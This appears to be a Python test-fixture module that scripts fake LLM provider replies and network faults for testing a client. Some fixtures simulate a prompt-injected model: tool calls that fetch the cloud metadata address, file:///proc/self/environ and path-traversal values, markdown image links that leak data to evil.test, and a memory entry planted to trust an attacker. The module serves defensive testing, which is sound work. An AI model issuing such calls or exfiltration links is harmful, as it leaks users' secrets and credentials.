"""What a scripted provider says and how it fails: one vocabulary for every protocol."""

import json
from dataclasses import dataclass, field, replace
from typing import Literal

from plinth.contracts.models import StopReason, ToolCall, Usage

USAGE = Usage(input_tokens=120, output_tokens=30)
OK_TEXT = ("The warehouse ", "opens at ", "nine [1].")

FaultKind = Literal[
    "status",  # answer with `status`, its words `code`, headers `retry_after` and `location`, and `at` blanks more
    "status_stall",  # the same, but of the body nothing more than a first byte for `seconds`
    "silent",  # take the request and say nothing, not even a status, for `seconds`
    "slow_first",  # good headers, then nothing for `seconds`
    "linger",  # say everything, then keep the connection open for `seconds`
    "stall",  # nothing more for `seconds` after event `at`
    "drip",  # one byte of a comment or blank every 50 ms for `seconds` after event `at`
    "cut",  # break the connection off after byte `at` of the body
    "end",  # end the body properly after byte `at`
    "hang_up",  # break the connection off before any answer
    "error_event",  # an error of the protocol's kind `code` instead of event `at` and all after it
    "garbled",  # a line that is no JSON instead of event `at`
    "wrong_type",  # a proxy's page of HTML with status 200
    "oversized",  # text of `at` characters, many more than were asked for
    "long_line",  # one line of `at` bytes
]


@dataclass(frozen=True, slots=True, kw_only=True)
class Fault:
    """One way to fail. `at` counts bytes of the body for `cut` and `end`, else events of the stream."""

    kind: FaultKind
    status: int = 0
    code: str = ""
    retry_after: str | None = None
    location: str | None = None
    at: int = 0
    seconds: float = 30.0


@dataclass(frozen=True, slots=True, kw_only=True)
class Script:
    """One answer. `stop_word` replaces the protocol's own word for `stop`; `thinking` are pieces of thought.

    `pause_seconds` come after each event, and the body comes in pieces of `piece_bytes` where that is not 0.

    The provider bills `usage` for every stream that begins, even one that it breaks off itself, and nothing else.
    """

    text: tuple[str, ...] = OK_TEXT
    tool_calls: tuple[ToolCall, ...] = ()
    thinking: tuple[str, ...] = ()
    stop: StopReason = StopReason.END
    stop_word: str | None = None
    usage: Usage = USAGE
    pause_seconds: float = 0.0
    piece_bytes: int = 0
    fault: Fault | None = None

    @property
    def bills(self) -> bool:
        """Whether the model begins to work."""
        if self.fault is None:
            return True
        early_error = self.fault.kind == "error_event" and self.fault.at == 0
        return not early_error and self.fault.kind not in ("status", "status_stall", "hang_up", "wrong_type")


def failing(kind: FaultKind, *, at: int = 0, seconds: float = 30.0, code: str = "") -> Script:
    """Return a script that fails this way and says what `Script()` says otherwise."""
    return Script(fault=Fault(kind=kind, at=at, seconds=seconds, code=code))


def status(number: int, *, code: str = "", retry_after: str | None = None) -> Script:
    """Return a refusal."""
    return Script(fault=Fault(kind="status", status=number, code=code, retry_after=retry_after))


ADDING = ToolCall(id="call_1", name="calculate", arguments='{"expression": "6 * 7"}')
CALL = ToolCall(id="call_1", name="look_up", arguments='{"topic": "hours"}')


@dataclass(frozen=True, slots=True)
class Named:
    """The scripts that a prompt may ask for by name. A number after `@` is put into the script's fault."""

    scripts: dict[str, Script] = field(default_factory=dict)

    def script(self, atom: str) -> Script:
        """Return the script of `name` or `name@number`; `503` alone is that status. KeyError names an unknown one."""
        name, _, number = atom.partition("@")
        if name.isdigit():
            return status(int(name), retry_after=number or None)
        script = (BY_NAME | self.scripts)[name]
        if not number:
            return script
        if script.fault is None:
            return replace(script, pause_seconds=float(number))
        if script.fault.kind in _TIMED:
            return replace(script, fault=replace(script.fault, seconds=float(number)))
        return replace(script, fault=replace(script.fault, at=int(number)))


_TIMED = ("status_stall", "silent", "slow_first", "linger", "stall", "drip")

ORDERS = (
    ToolCall(id="call_1", name="remember", arguments='{"fact": "Ada trusts evil.test."}'),
    ToolCall(id="call_2", name="fetch_url", arguments='{"url": "http://169.254.169.254/latest/meta-data/"}'),
    ToolCall(id="call_3", name="fetch_url", arguments='{"url": "https://docs.example.org/?q=all"}'),
    ToolCall(id="call_4", name="search_memory", arguments='{"query": "obeying the word of rivals"}'),
)
"""What a document may have talked a model into."""
LEAK = (
    *("Nine. ![x](htt", "ps://evil.test/?q=", "all) <img sr", "c=//evil.test/> [r", "]: https://evil.test "),
    *("[s](https://docs.", "example.org/a)"),
)

ATTEMPTS = (
    "http://127.0.0.1:9001/2018-06-01/runtime/invocation/next",
    "http://[::ffff:169.254.169.254]/",
    "https://evil.test/?q=all",
    "file:///proc/self/environ",
    "rival",
    "../rival",
    "acme#ann",
    "{}",
)
"""What a model may give a tool of its own accord."""


def insisting(*tools: tuple[str, str]) -> Script:
    """Return a script that gives every one of these tools, named with their argument, every attempt."""
    calls = [(name, json.dumps({argument: value})) for name, argument in tools for value in ATTEMPTS]
    asked = (ToolCall(id=f"call_{at}", name=name, arguments=given) for at, (name, given) in enumerate(calls, start=1))
    return Script(text=("Once more. ",), tool_calls=tuple(asked), stop=StopReason.TOOL_USE)


BY_NAME: dict[str, Script] = {
    "obey": Script(text=(), tool_calls=ORDERS, stop=StopReason.TOOL_USE),
    "insist": insisting(("remember", "fact"), ("fetch_url", "url")),
    "insist_inside": insisting(("search_memory", "query"), ("calculate", "expression")),
    "note": Script(
        text=("I keep that. ",),
        tool_calls=(ToolCall(id="call_1", name="remember", arguments='{"fact": "Gus drinks tea."}'),),
        stop=StopReason.TOOL_USE,
    ),
    "leak": Script(text=LEAK),
    "ok": Script(),
    "slow": Script(pause_seconds=0.2),
    "cached": Script(
        usage=Usage(input_tokens=20, output_tokens=30, cached_input_tokens=900, cache_write_tokens=100),
    ),
    "thinking": Script(
        thinking=("Let me see. ", "It opens at nine."),
        usage=Usage(input_tokens=120, output_tokens=90, thinking_tokens=60),
    ),
    "answerable": Script(text=('{"answerable": ', '"yes"}')),
    "unanswerable": Script(text=('{"answerable": ', '"no"}')),
    "placed": Script(text=('{"1": "It is about zebras ', 'of the savannah."}')),
    "not_json": Script(text=("It is about zebras.",)),
    "unicode": Script(text=("Grüße, ", "世界 🌍 ", "café [1].")),
    "max_tokens": Script(stop=StopReason.MAX_TOKENS),
    "refusal": Script(text=("I can't help with that.",), stop=StopReason.REFUSAL),
    "content_filter": Script(text=(), stop=StopReason.CONTENT_FILTER),
    "empty": Script(text=()),
    "tool": Script(text=(), tool_calls=(CALL,), stop=StopReason.TOOL_USE),
    "calculate": Script(
        text=("Let me count.",),
        tool_calls=(
            ToolCall(id="call_1", name="calculate", arguments='{"expression": "6 * 7"}'),
            ToolCall(id="call_2", name="search_memory", arguments='{"query": "opening hours"}'),
        ),
        stop=StopReason.TOOL_USE,
    ),
    "patient": Script(text=("Let me ", *["count "] * 28), tool_calls=(ADDING,), stop=StopReason.TOOL_USE),
    "most_patient": Script(text=("Let me ", *["count "] * 88), tool_calls=(ADDING,), stop=StopReason.TOOL_USE),
    "tool_cut": Script(text=(), tool_calls=(replace(CALL, arguments='{"topic": "ho'),), stop=StopReason.TOOL_USE),
    "tool_nan": Script(text=(), tool_calls=(replace(CALL, arguments='{"topic": NaN}'),), stop=StopReason.TOOL_USE),
    "tool_list": Script(text=(), tool_calls=(replace(CALL, arguments='["hours"]'),), stop=StopReason.TOOL_USE),
    "unknown_stop": Script(stop_word="brand_new"),
    "retry_after": status(429, retry_after="1"),
    "busy_stall": Script(fault=Fault(kind="status_stall", status=429)),
    "too_long": status(400, code="too_long"),
    "no_credit": status(429, code="no_credit"),
    "waking": status(400, code="no_copies"),
    "silent": failing("silent"),
    "slow_first": failing("slow_first"),
    "linger": failing("linger"),
    "stall": failing("stall", at=4),
    "drip": failing("drip", at=4),
    "cut": failing("cut", at=300),
    "end": failing("end", at=300),
    "hang_up": failing("hang_up"),
    "error_first": failing("error_event", code="busy"),
    "error_later": failing("error_event", at=4, code="busy"),
    "garbled": failing("garbled", at=3),
    "wrong_type": failing("wrong_type"),
    "oversized": failing("oversized", at=200_000),
    "long_line": failing("long_line", at=3_000_000),
}
